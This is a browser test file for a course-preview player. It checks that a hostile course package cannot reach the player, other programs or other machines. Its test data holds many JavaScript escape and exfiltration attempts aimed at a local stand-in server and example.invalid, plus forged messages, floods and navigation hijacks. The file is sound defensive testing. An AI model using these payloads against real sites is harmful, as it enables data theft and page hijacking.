"""A package that means harm, in the preview: nothing of it reaches the player, another program, or another machine."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Frame, expect

from coursewright.cli.preview.courses import Packages

from .test_preview import Player, manifest_12, sco_12, serving, zipped

pytestmark = pytest.mark.browser

ITEM = '<m:item identifier="A" identifierref="RB"><m:title>Unit</m:title></m:item>'

EVIL = """<!DOCTYPE html><html lang="en"><head><title>Evil</title></head><body><script>
const other = "http://127.0.0.1:OTHER/reached", out = parent.OUT = {};
const attempt = (name, action) => { try { out[name] = String(action()); } catch (error) { out[name] = "closed"; } };
const wait = async (name, action) => { try { out[name] = String(await action()); } catch (error) { out[name] = "closed"; } };
const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
(async () => {
  attempt("document", () => top.document.title);
  attempt("write", () => { top.document.body.dataset.evil = "1"; });
  attempt("storage", () => top.localStorage.length);
  attempt("session", () => top.sessionStorage.length);
  attempt("function", () => { top.fetch = null; });
  attempt("location", () => top.location.href);
  attempt("cookie", () => document.cookie);
  attempt("domain", () => { document.domain = "localhost"; });
  for (const path of ["/courses.json", "/events", "/player.js", "/last/x"]) await wait(path, async () => (await fetch(path)).status);
  for (const address of [PLAYER + "courses.json", other, "http://example.invalid/x", "http://localhost:OTHER/reached"])
    await wait("fetch " + address, async () => (await fetch(address, { mode: "no-cors" })).type);
  await wait("worker", () => navigator.serviceWorker.register("worker.js"));
  attempt("beacon", () => navigator.sendBeacon(other, "x"));
  attempt("socket", () => new WebSocket(other.replace("http", "ws")));
  attempt("events", () => new EventSource(other));
  attempt("import", () => { import(other); });
  add("img", { src: other }); add("script", { src: other }); add("link", { rel: "stylesheet", href: other });
  add("video", { src: other }); add("object", { data: other }); add("embed", { src: other });
  add("iframe", { src: other }); add("iframe", { src: PLAYER });
  add("iframe", { srcdoc: `<script>parent.parent.parent.document.body.dataset.evil = 1</${"script"}><meta http-equiv="refresh" content="0;url=${other}">` });
  add("iframe", { src: "data:text/html,<script>location='" + other + "'</" + "script>" });
  add("form", { action: other, method: "post", id: "f", target: "_top" }); document.getElementById("f").submit();
  add("form", { action: other, method: "get", id: "g" }); document.getElementById("g").submit();
  add("a", { href: other, target: "_blank", id: "n" }); document.getElementById("n").click();
  add("a", { href: other, target: "_top", id: "t" }); document.getElementById("t").click();
  add("a", { href: other, download: "x", id: "d" }); document.getElementById("d").click();
  attempt("open", () => window.open(other));
  attempt("top open", () => window.open(other, "_top"));
  attempt("unpatched", () => Window.prototype.open ? Window.prototype.open.call(window, other) : add("iframe", { id: "raw" }));
  attempt("top", () => { top.location = other; });
  attempt("top replace", () => top.location.replace("http://example.invalid/?leak"));
  attempt("top hash", () => { top.location.hash = "evil"; });
  for (let n = 0; n < 300; n += 1) attempt("history", () => { history.pushState(null, "", "?" + n); });
  out.done = "yes";
})();
</script></body></html>"""


@contextmanager
def another_program() -> Iterator[tuple[int, list[str]]]:
    """Another program on this machine, with a cookie of its own, that hears who asks for what."""
    heard: list[str] = []

    class Other(BaseHTTPRequestHandler):
        def answer(self) -> None:
            heard.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Set-Cookie", "secret=other; Path=/")
            self.end_headers()

        do_GET = do_POST = answer  # noqa: N815 - the library's names

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Other) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server.server_port, heard
        server.shutdown()


def visited(context: BrowserContext, port: int) -> None:
    """Have the cookie of the other program, as its user would."""
    page = context.new_page()
    for host in ("127.0.0.1", "localhost"):
        page.goto(f"http://{host}:{port}/first")
    page.close()


def test_nothing_that_a_package_does_reaches_beyond_it(browser: Browser, tmp_path: Path) -> None:
    with another_program() as (port, heard), browser.new_context() as context:
        visited(context, port)
        heard.clear()
        folder = tmp_path / "course"
        (folder / "content").mkdir(parents=True)
        (folder / "imsmanifest.xml").write_text(manifest_12(ITEM))
        (folder / "content" / "worker.js").write_text("self.x = 1")
        (folder / "content" / "b.html").write_text("")  # what is in it needs the address of the preview
        _attack(context, folder, port, heard)


def _attack(context: BrowserContext, folder: Path, port: int, heard: list[str]) -> None:
    asked: list[str] = []
    context.on("response", lambda response: asked.append(response.url))
    with serving(Packages([folder])) as address:
        file = folder / "content" / "b.html"
        file.write_text(EVIL.replace("OTHER", str(port)).replace("PLAYER", json.dumps(address)))
        page = context.new_page()
        player = Player(page, address)
        player.entry("Unit").click()
        expect(page.locator("#status")).to_have_text("Running: Unit")
        player.runtime().wait_for_function("() => window.OUT && window.OUT.done")
        out: dict[str, str] = player.runtime().evaluate("() => JSON.parse(JSON.stringify(window.OUT))")
        assert page.url.startswith(f"{address}?version=")
        assert page.evaluate("() => document.body.dataset.evil") is None
        assert page.evaluate("() => typeof window.fetch") == "function"
        assert page.evaluate("() => document.title") == "Strangers | Preview"
        assert player.state("Unit") in ("Not started", "In progress")
        assert len(context.pages) == 1
        player.click("Exit unit")
        expect(page.locator("#status")).to_have_text("Left: Unit")
    names = ("document", "write", "storage", "session", "function", "location", "worker", "top replace")
    assert {name: out[name] for name in names if out[name] != "closed"} == {}
    assert {name: said for name, said in out.items() if name.startswith("fetch") and said != "closed"} == {}
    assert {out[path] for path in ("/courses.json", "/events", "/player.js", "/last/x")} == {"404"}
    assert out["cookie"] == ""
    assert [line for line in heard if "favicon" not in line] == []  # which the browser asks for by itself
    assert [url for url in asked if "example.invalid" in url or f":{port}" in url] == []


@contextmanager
def attacked(
    browser: Browser, folder: Path, script: str, forge: str = "", leaves: bool = False
) -> Iterator[tuple[Player, list[str], str]]:
    """Play a unit whose script does harm once; yield the player, what another program heard, and its address.

    `forge` runs in the run-time's own window. What ran to its end asks for ran.txt; what `leaves` asks before.
    """
    (folder / "content").mkdir(parents=True)
    (folder / "imsmanifest.xml").write_text(manifest_12(ITEM))
    (folder / "content" / "ran.txt").write_text("ran")
    inside = 'parent.document.body.append(Object.assign(parent.document.createElement("script"), { src: new URL("f.js", location) }));'
    with another_program() as (port, heard), browser.new_context() as context:
        other = f"http://127.0.0.1:{port}/reached"
        ending = "\nfetch(RAN);"
        start = f'const other = "{other}", RAN = new URL("ran.txt", location).href;\n'
        body = start + (
            inside + "parent.RAN = RAN; parent.other = other;"
            if forge
            else f"fetch(RAN).then(() => {{ {script} }});"
            if leaves
            else script + ending
        )
        (folder / "content" / "f.js").write_text(forge + ending)
        (folder / "content" / "b.html").write_text(
            f"<!DOCTYPE html><title>E</title><body><script>{body}</script></body>"
        )
        with serving(Packages([folder])) as address:
            page = context.new_page()
            player = Player(page, address)
            with page.expect_response(lambda response: response.url.endswith("/ran.txt")):
                player.entry("Unit").click()
            yield player, heard, other
            assert page.url.startswith(address)
            assert len(context.pages) == 1
            player.click("Exit unit")
            expect(page.locator("#status")).to_have_text("Left: Unit")
            assert heard == []


NAVIGATIONS = {
    "location": "location.href = other;",
    "replace": "location.replace(other);",
    "another machine": 'location.href = "http://example.invalid/reached";',
    "refresh": 'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + other }));',
    "frame": 'document.body.append(Object.assign(document.createElement("iframe"), { src: other }));',
    "frame in a frame": "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<iframe src='${other}'></iframe>` }));",
    "form": """document.body.append(Object.assign(document.createElement("form"), { action: other, method: "post", id: "f" }));
        document.getElementById("f").submit();""",
}


@pytest.mark.parametrize("name", NAVIGATIONS)
def test_no_way_leads_to_another_address(browser: Browser, tmp_path: Path, name: str) -> None:
    with attacked(browser, tmp_path / "course", NAVIGATIONS[name], leaves=True) as (player, _, other):
        blocked = "http://example.invalid" if "invalid" in NAVIGATIONS[name] else other.removesuffix("/reached")
        expect(player.page.locator("#calls")).to_contain_text(f"Blocked: {blocked}")


OVER_ALL = {
    "form": """document.body.append(Object.assign(document.createElement("form"), { action: other, method: "post", id: "f", target: "_top" }));
        document.getElementById("f").submit();""",
    "location": "try { top.location = other; } catch (error) {}",
    "replace": 'try { top.location.replace("http://example.invalid/?leak"); } catch (error) {}',
    "window": 'window.open(other, "_top");',
    "link": """document.body.append(Object.assign(document.createElement("a"), { href: other, target: "_top", id: "a" }));
        document.getElementById("a").click();""",
}


@pytest.mark.parametrize("name", OVER_ALL)
def test_the_player_is_not_sent_away(browser: Browser, tmp_path: Path, name: str) -> None:
    with attacked(browser, tmp_path / "course", OVER_ALL[name]) as (player, _, _):
        expect(player.page.locator("#status")).to_have_text("Running: Unit")


def test_an_endless_title_is_the_units_own(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", 'document.title = "x".repeat(5_000_000);') as (player, _, _):
        assert player.page.title() == "Strangers | Preview"


FORGED = """
const token = new URLSearchParams(parent.location.hash.slice(1)).get("token");
const forged = { token, kind: "said", said: [{ kind: "saved", ended: true, values: { "cmi.core.lesson_status": "passed", ["__proto__"]: "x" } }] };
for (const text of [JSON.stringify(forged), forged, "{", "[]", "null", "x".repeat(5_000_000), JSON.stringify({ ...forged, said: { length: 1e9 } })])
  top.postMessage(text, "*");
parent.postMessage({ token, kind: "leave" }, "*");
"""


def test_messages_from_another_window_than_the_run_times_are_not_believed(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", FORGED) as (player, _, _):
        player.is_in("Unit", "Not started")
        expect(player.page.locator("#status")).to_have_text("Running: Unit")


STRANGE = """
const token = new URLSearchParams(location.hash.slice(1)).get("token");
const strange = { kind: "call", method: "constructor", values: [1], result: {}, error: "toString" };
const shown = { kind: "call", method: "LMSGetValue", values: ["<img src=x>"], result: "y".repeat(200000), error: "0", why: { a: 1 } };
const kept = { kind: "saved", values: { "__proto__.x": "1", "cmi.core.lesson_location": 7, "constructor": "x" } };
parent.postMessage(JSON.stringify({ token, kind: "said", said: [strange, shown, kept, null, 7, { kind: "toString" }] }), "*");
parent.postMessage(JSON.stringify({ token, kind: "said", said: { length: 1e9 } }), "*");
parent.postMessage("x".repeat(5000000), "*");
"""


def test_strange_messages_of_the_run_time_are_shown_as_text_and_cut(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", "", STRANGE) as (player, _, _):
        calls = player.page.locator("#calls")
        expect(calls).to_contain_text("<img src=x>")
        assert calls.locator("img").count() == 0
        assert max(map(len, calls.locator("li").all_text_contents())) < 2_000


HUGE = 'parent.API.LMSInitialize(""); parent.API.LMSSetValue("cmi.suspend_data", "z".repeat(50_000)); parent.API.LMSCommit("");'


def test_a_huge_value_is_refused_and_cut(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", HUGE) as (player, _, _):
        calls = player.page.locator("#calls")
        expect(calls).to_contain_text("LMSSetValue")
        expect(calls).to_contain_text("405")
        assert max(map(len, calls.locator("li").all_text_contents())) < 2_000


def loaded(player: Player) -> Frame:
    frame = player.frame()
    frame.wait_for_load_state("load")
    return frame


def test_a_window_that_a_unit_opens_lies_over_it_and_finds_the_api(browser: Browser, tmp_path: Path) -> None:
    opener = (
        '<title>O</title><button onclick="window.open(`c.html`); window.open(`http://example.invalid/`)">Go</button>'
    )
    inside = sco_12(
        "Inside",
        'call("LMSInitialize", ""); call("LMSSetValue", "cmi.core.lesson_status", "completed"); call("LMSFinish", "");',
    )
    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), {"content/b.html": opener, "content/c.html": inside})
    with serving(Packages([package])) as address, browser.new_context() as context:
        player = Player(context.new_page(), address)
        player.entry("Unit").click()
        expect(player.page.locator("#status")).to_have_text("Running: Unit")
        loaded(player).get_by_role("button", name="Go").click()
        expect(player.entry("Unit")).to_contain_text("Completed")
        expect(player.page.locator("#calls")).to_contain_text("Blocked: http://example.invalid/")
        player.runtime().get_by_role("button", name="Close window").click()
        expect(player.runtime().locator(".window")).to_have_count(0)
        assert len(context.pages) == 1


def test_a_unit_in_nested_frames_finds_the_api(browser: Browser, tmp_path: Path) -> None:
    frames = '<html><head><title>F</title></head><frameset cols="1,*"><frame src="d.html"><frame src="d.html"></frameset></html>'
    files = {
        "content/b.html": frames,
        "content/d.html": '<title>D</title><iframe src="c.html"></iframe>',
        "content/c.html": sco_12(
            "Deep",
            'call("LMSInitialize", ""); call("LMSSetValue", "cmi.core.lesson_status", "passed"); call("LMSFinish", "");',
        ),
    }
    with (
        serving(Packages([zipped(tmp_path / "p.zip", manifest_12(ITEM), files)])) as address,
        browser.new_context() as context,
    ):
        player = Player(context.new_page(), address)
        player.entry("Unit").click()
        expect(player.entry("Unit")).to_contain_text("Passed")


def test_a_unit_that_floods_the_player_is_left(browser: Browser, tmp_path: Path) -> None:
    page = '<title>F</title><script>parent.document.body.append(Object.assign(parent.document.createElement("script"), { src: new URL("f.js", location) }))</script>'
    flood = """setInterval(() => { for (let n = 0; n < 99; n += 1) parent.postMessage("{}", "*"); }, 1)"""
    files = {"content/b.html": page, "content/f.js": flood}
    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), files)
    with serving(Packages([package])) as address, browser.new_context() as context:
        player = Player(context.new_page(), address)
        player.entry("Unit").click()
        expect(player.page.locator("#calls")).to_contain_text("messages in a second")
        expect(player.page.locator("#unit iframe")).to_have_count(0)


ELSEWHERE = """
const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
const rules = { prefetch: [{ urls: [other], eagerness: "immediate" }], prerender: [{ urls: [other], eagerness: "immediate" }] };
add("base", { href: other });
add("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
for (const rel of ["prefetch", "prerender", "modulepreload", "icon", "manifest"]) add("link", { rel, href: other });
add("link", { rel: "preload", as: "image", href: other });
add("a", { href: "#x", ping: other, id: "p" }); document.getElementById("p").click();
add("style", { textContent: `@import "${other}"; body { background: url(${other}) } @font-face { font-family: x; src: url(${other}) } * { font-family: x }` });
const page = `<script>fetch("${other}").catch(() => 0); top.location = "${other}"; location = "${other}";</${"script"}><meta http-equiv="refresh" content="0;url=${other}"><img src="${other}">`;
add("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })) });
add("iframe", { src: "data:text/html," + encodeURIComponent(page) });
const work = `fetch("${other}").catch(() => 0); importScripts("${other}");`;
for (const address of [URL.createObjectURL(new Blob([work])), "data:text/javascript," + encodeURIComponent(work)]) new Worker(address);
new SharedWorker(URL.createObjectURL(new Blob([work])));
if (window.fetchLater) window.fetchLater(other, { activateAfter: 0 });
if (window.WebTransport) new WebTransport(other.replace("http:", "https:")).ready.catch(() => 0);
document.cookie = "evil=1; domain=localhost"; document.cookie = "evil=1; domain=.localhost";
history.go(-1);
"""


def test_pages_workers_and_hints_of_every_kind_ask_nobody_else(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", ELSEWHERE) as (player, heard, other):
        expect(player.page.locator("#calls")).to_contain_text(f"Blocked: {other.removesuffix('/reached')}")
        kept = player.page.context.cookies()
        assert [cookie for cookie in kept if cookie.get("name") == "evil"] == []
        assert heard == []


RUNTIME_AWAY = {
    "location": "parent.location.href = other;",
    "another machine": 'parent.location.replace("http://example.invalid/");',
    "another port": 'parent.location.port = "1";',
    "another package": 'parent.location.href = parent.location.origin.replace(/\\/\\/./, "//x") + "/packages/x/y.html";',
    "data": 'parent.location.href = "data:text/html,x";',
    "nothing": 'parent.location.href = "about:blank";',
}


@pytest.mark.parametrize("name", RUNTIME_AWAY)
def test_the_run_time_is_not_sent_elsewhere(browser: Browser, tmp_path: Path, name: str) -> None:
    with attacked(browser, tmp_path / "course", RUNTIME_AWAY[name], leaves=True) as (player, heard, _):
        expect(player.page.locator("#unit iframe")).to_have_count(1)
        expect(player.page.locator("#status")).to_have_text("Running: Unit")
        assert heard == []


TIRELESS = {
    "reloads": "fetch(RAN).then(() => parent.location.reload());",
    "never ends": "fetch(RAN).then((answer) => answer.text()).then(() => setTimeout(() => { while (true); }, 300));",
}


@pytest.mark.parametrize("name", TIRELESS)
def test_a_unit_that_goes_on_for_ever_can_be_left(browser: Browser, tmp_path: Path, name: str) -> None:
    with attacked(browser, tmp_path / "course", "", TIRELESS[name]) as (player, _, _):
        player.page.get_by_label("Mode").select_option("browse")  # the player still answers


LONG = """
parent.API.LMSInitialize("");
parent.API.LMSSetValue("cmi.suspend_data", "z".repeat(10_000_000));
parent.API.LMSGetValue(...new Array(1_000).fill("cmi.core.entry"));
"""


def test_a_value_too_long_for_the_log_is_said(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", LONG) as (player, _, _):
        calls = player.page.locator("#calls")
        expect(calls).to_contain_text("LMSInitialize")
        expect(calls).to_contain_text("(10000000 characters: too long for the log)")
        expect(calls).to_contain_text("at most 4096 characters, not 10000000")


MANY = """
parent.API.LMSInitialize("");
for (let n = 0; n < 6_000; n += 1) parent.API.LMSGetValue("cmi.core.student_id");
parent.API.LMSSetValue("cmi.core.lesson_status", "completed"); parent.API.LMSFinish("");
"""


def test_thousands_of_calls_are_counted_and_the_last_are_shown(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", MANY) as (player, _, _):
        player.is_in("Unit", "Completed")
        expect(player.page.locator("#log-count")).to_contain_text("6003, the last 2000 shown")


STEADY = """
parent.API.LMSInitialize("");
const channel = new MessageChannel();
let count = 0;
channel.port1.onmessage = () => {
  parent.API.LMSGetValue("cmi.core.entry");
  if ((count += 1) < 900) channel.port2.postMessage("");
  else parent.API.LMSSetValue("cmi.core.lesson_status", "completed"), parent.API.LMSFinish("");
};
channel.port2.postMessage("");
"""


def test_many_calls_one_by_one_are_no_flood(browser: Browser, tmp_path: Path) -> None:
    with attacked(browser, tmp_path / "course", STEADY) as (player, _, _):
        player.is_in("Unit", "Completed")
        expect(player.page.locator("#log-count")).to_contain_text("903")


NOISE = 'setInterval(() => { for (let n = 0; n < 99; n += 1) top.postMessage("{}", "*"); }, 1);'


def test_noise_counts_wherever_in_the_unit_it_comes_from(browser: Browser, tmp_path: Path) -> None:
    files = {"content/b.html": f"<title>F</title><script>{NOISE}</script>"}
    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), files)
    with serving(Packages([package])) as address, browser.new_context() as context:
        player = Player(context.new_page(), address)
        player.entry("Unit").click()
        expect(player.page.locator("#calls")).to_contain_text("messages in a second")
        expect(player.page.locator("#unit iframe")).to_have_count(0)


LINKS = """<title>L</title>
<a href="c.html" target="_blank">Own</a> <a href="http://example.invalid/x" target="_blank"><b>Other</b></a>
<a href="c.html" target="_top">Top</a> <a href="c.html" download>Save</a> <a href="c.html" target="inside">Frame</a>
<a href="x.pdf" target="inside">Paper</a> <iframe name="inside" src="d.html"></iframe>"""


def test_links_to_new_windows_open_over_the_unit_and_what_is_closed_is_said(browser: Browser, tmp_path: Path) -> None:
    files = {
        "content/b.html": LINKS,
        "content/c.html": "<title>C</title><h1>Over</h1>",
        "content/d.html": "<title>D</title>",
        "content/x.pdf": "%PDF-1.4",
    }
    package = zipped(tmp_path / "p.zip", manifest_12(ITEM), files)
    with serving(Packages([package])) as address, browser.new_context() as context:
        player = Player(context.new_page(), address)
        player.entry("Unit").click()
        expect(player.page.locator("#status")).to_have_text("Running: Unit")
        unit, calls = loaded(player), player.page.locator("#calls")
        unit.get_by_text("Frame").click()
        expect(unit.frame_locator("iframe").locator("h1")).to_have_text("Over")
        for link, said in {
            "Other": "Blocked: http://example.invalid/x",
            "Top": "a unit may not take the player's place",
            "Save": "the preview does not download",
            "Paper": "Not shown: content/x.pdf",
        }.items():
            unit.get_by_text(link, exact=True).click()
            expect(calls).to_contain_text(said)
        unit.get_by_text("Own").click()
        over = player.runtime().locator(".window")
        expect(over.frame_locator("iframe").locator("h1")).to_have_text("Over")
        assert len(context.pages) == 1
